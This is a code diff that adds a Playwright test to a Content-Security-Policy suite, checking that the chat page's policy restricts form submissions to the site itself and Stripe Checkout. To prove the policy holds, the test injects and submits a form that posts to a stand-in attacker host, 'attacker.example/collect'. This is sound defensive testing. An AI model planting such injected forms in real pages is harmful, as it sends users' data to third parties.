@@ -67,4 +67,33 @@ test.describe("Content-Security-Policy", () => {
     const again = await page.request.get("/chat");
     expect(again.headers()["content-security-policy"]).not.toContain(`'nonce-${nonce}'`);
   });
+  test("forms post only to this site, or to Stripe Checkout where the checkout form's answer leads", async ({
+    page,
+    user: _user,
+  }) => {
+    const response = await page.goto("/chat");
+    const policy = response?.headers()["content-security-policy"] ?? "";
+    expect(policy).toContain("form-action 'self' https://checkout.stripe.com");
+
+    // A form an injection points at another site is refused before it leaves the page.
+    const leaked: string[] = [];
+    page.on("request", (request) => {
+      if (request.url().startsWith("https://attacker.example/")) leaked.push(request.url());
+    });
+    const violated = page.evaluate(
+      () =>
+        new Promise<string>((resolve) =>
+          document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective)),
+        ),
+    );
+    await page.evaluate(() => {
+      const form = document.createElement("form");
+      form.method = "post";
+      form.action = "https://attacker.example/collect";
+      document.body.append(form);
+      form.submit();
+    });
+    expect(await violated).toBe("form-action");
+    expect(leaked).toEqual([]);
+  });
 });
